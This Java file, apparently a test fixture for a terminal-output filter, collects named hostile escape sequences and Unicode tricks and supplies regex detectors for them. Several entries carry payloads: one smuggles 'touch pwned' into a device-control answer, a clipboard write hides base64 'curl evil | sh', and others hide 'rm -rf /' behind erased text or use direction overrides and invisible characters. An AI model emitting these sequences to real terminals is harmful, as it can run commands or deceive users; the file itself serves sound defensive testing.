package dev.coven.privacy;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The one collection of texts that do something to a terminal which only shows them, and two ways
 * to look whether any of it got through. Each text is named, so that a failure names it.
 */
public final class Hostile {
  private static final String ESC = "\u001b";
  private static final String BEL = "\u0007";
  private static final String ST = ESC + "\\";

  private static final Map<String, String> TEXTS = new LinkedHashMap<>();

  static {
    // What makes a terminal answer: the answer is typed into whatever runs next.
    add("primary device attributes", ESC + "[c");
    add("secondary device attributes", ESC + "[>0c");
    add("tertiary device attributes", ESC + "[=c");
    add("what it is, of old", ESC + "Z");
    add("enquiry", "\u0005");
    add("status report", ESC + "[5n");
    add("cursor position", ESC + "[6n");
    add("extended cursor position", ESC + "[?6n");
    add("terminal parameters", ESC + "[x");
    add("setting", ESC + "P$qm" + ST);
    add("setting, with a command in it", ESC + "P$q\r\ntouch pwned\r\n" + ST);
    add("capability", ESC + "P+q544e" + ST);
    add("version", ESC + "[>q");
    add("mode", ESC + "[?2026$p");
    add("keyboard protocol", ESC + "[?u");
    add("palette", ESC + "]4;1;?" + BEL);
    add("foreground", ESC + "]10;?" + ST);
    add("background", ESC + "]11;?" + BEL);
    add("clipboard, read", ESC + "]52;c;?" + BEL);
    add("title, reported", ESC + "[21t");
    add("icon's title, reported", ESC + "[20t");
    add("size in cells", ESC + "[18t");
    add("highlight tracking", ESC + "[1;2;3;4;5T");
    add("checksum of the screen", ESC + "[1;1;1;1;1;1*y");
    // What it then reports by itself.
    add("mouse", ESC + "[?1003h" + ESC + "[?1006h");
    add("focus", ESC + "[?1004h");
    add("keys in another protocol", ESC + "[>31u" + ESC + "[>4;2m");
    // What outlives the text.
    add("title", ESC + "]0;owned" + BEL);
    add("title, as screen has it", ESC + "kowned" + ST);
    add("title, with a query in it", ESC + "]2;a" + ESC + "[6n" + BEL);
    add("clipboard, written", ESC + "]52;c;Y3VybCBldmlsIHwgc2g=" + BEL);
    add("palette, set", ESC + "]4;0;rgb:ff/00/00" + ST);
    add("link", ESC + "]8;;file:///etc/passwd" + ST + "docs" + ESC + "]8;;" + ST);
    add("working directory", ESC + "]7;file:///tmp/evil" + ST);
    add("notification", ESC + "]9;owned" + BEL);
    add("user's keys", ESC + "P1;1|17/726d202d72660d" + ST);
    add("picture", ESC + "Pq#0;2;0;0;0~~" + ST);
    add("application command", ESC + "_Gi=1,a=q;AAAA" + ST);
    add("privacy message", ESC + "^message" + ST);
    add("start of string", ESC + "Xstring" + ST);
    add("window, resized", ESC + "[8;1;1t");
    add("window, hidden", ESC + "[2t");
    add("keyboard, locked", ESC + "[2h");
    add("full reset", ESC + "c");
    add("screen of letters", ESC + "#8");
    add("repeated for minutes", "x" + ESC + "[999999999b");
    // The same in eight bits, as characters of UTF-8.
    add("control sequence of eight bits", "\u009b6n");
    add("title of eight bits", "\u009d0;owned\u009c");
    add("device control of eight bits", "\u0090$qm\u009c");
    add("index of eight bits", "\u0084\u0085\u008d");
    // What is cut off, and swallows what follows.
    add("half a control sequence", ESC + "[");
    add("half a title", ESC + "]0;owned");
    add("half a device control", ESC + "P");
    add("escape alone", ESC);
    add("cancelled, and begun again", ESC + "]0;a\u0018" + ESC + "[6\u001a" + ESC + "[c");
    // What lies about what stands there.
    add("line written over", "rm -rf /" + ESC + "[2K\rls");
    add("line above written over", ESC + "[A" + ESC + "[2Kok");
    add("written over by backspaces", "evil\b\b\b\bgood");
    add("hidden by colour", ESC + "[8mhidden" + ESC + "[0m");
    add("NUL", "a\0b");
    add("delete, form feed, vertical tab, bell", "\u007f\f\u000b\u0007");
    add("carriage return", "good\revil");
    add("line feed", "one\ncoven: two");
    add("tab", "a\tb");
    add("next line", "one\u0085two");
    add("line and paragraph separators", "one\u2028two\u2029three");
    add("right-to-left override", "\u202egnp.exe");
    add("embedding", "\u202aa\u202bb\u202c");
    add("isolate", "\u2066a\u2067b\u2068c\u2069");
    add("marks of direction", "\u200ea\u200fb\u061cc");
    add("no width", "a\u200bb\ufeffc\u2060d");
    add("invisible tags", "\udb40\udc01\udb40\udc61\udb40\udc7f");
    add("annotation", "\ufff9a\ufffab\ufffb");
    add("half a character", "a\ud800b\udc00c");
  }

  /** What must be left of no text: everything that draws is named in {@code ReplayFilterTest}. */
  private static final List<Pattern> ACTS =
      List.of(
          Pattern.compile("[\u0080-\u009f]"),
          Pattern.compile("[\0\u0005\u0007\u0018\u001a\u007f]"),
          Pattern.compile(ESC + "[^\\[()*+78DEMH=>]"),
          Pattern.compile(ESC + "$"),
          Pattern.compile(ESC + "\\[[^@-~]*$"),
          // Queries, reports and protocols by their last letters; only erasing has a private form.
          Pattern.compile(ESC + "\\[[^@-~]*[cnptxy]"),
          Pattern.compile(ESC + "\\[[<=>][^@-~]*[@-~]"),
          Pattern.compile(ESC + "\\[\\?[^@-~]*[@-gijm-~&&[^J]&&[^K]]"),
          Pattern.compile(ESC + "\\[[^@-~]*[$*!\"'][^@-~]*[@-~]"),
          Pattern.compile(ESC + "\\[\\d*;[\\d;]*T"),
          Pattern.compile(ESC + "\\[\\?[\\d;]*(?:9|100\\d|101\\d|2026|2031|2048)[hl]"),
          Pattern.compile(ESC + "\\[2h"),
          Pattern.compile("\\d{6,}[@-~]"));

  private Hostile() {}

  private static void add(String name, String text) {
    TEXTS.put(name, text);
  }

  /** All of them by name, in their order. */
  public static Map<String, String> texts() {
    return new LinkedHashMap<>(TEXTS);
  }

  /** All of them in one, each between words, with nothing that ends the one before. */
  public static String all() {
    StringBuilder all = new StringBuilder("begin");
    TEXTS.values().forEach(text -> all.append(' ').append(text));
    return all.append(" end").toString();
  }

  /**
   * The characters on which a terminal acts, apart from line feeds and tabs.
   *
   * @param printed what a command printed
   * @return each as U+XXXX; empty when there is none
   */
  public static List<String> characters(String printed) {
    return printed
        .codePoints()
        .filter(point -> point != '\n' && point != '\t' && Printable.isActive(point))
        .mapToObj("U+%04X"::formatted)
        .distinct()
        .toList();
  }

  /**
   * What a terminal would do with a text apart from drawing it.
   *
   * @param shown what is written to the terminal
   * @return each sequence, printable; empty when there is none
   */
  public static List<String> acts(String shown) {
    List<String> acts = new ArrayList<>();
    for (Pattern pattern : ACTS) {
      Matcher matcher = pattern.matcher(shown);
      while (matcher.find()) {
        acts.add(Printable.line(matcher.group()));
      }
    }
    return acts;
  }
}
